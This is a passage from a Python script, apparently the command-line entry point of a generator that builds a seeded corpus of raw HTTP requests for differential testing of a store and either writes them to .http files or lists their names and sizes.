    p = argparse.ArgumentParser(description="Generate the differential store corpus.")
    p.add_argument("--seed", type=int, default=DEFAULT_SEED)
    p.add_argument("--size", type=int, default=DEFAULT_SIZE)
    p.add_argument("--dump", help="write each request to DIR/NAME.http")
    p.add_argument("--list", action="store_true", help="print names and sizes")
    a = p.parse_args(argv)
    reqs = generate(a.seed, a.size)
    if a.dump:
        d = Path(a.dump)
        d.mkdir(parents=True, exist_ok=True)
        for name, raw in reqs:
            (d / f"{name}.http").write_bytes(raw)
    if a.list or not a.dump:
        for name, raw in reqs:
            print(f"{name}\t{len(raw)}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
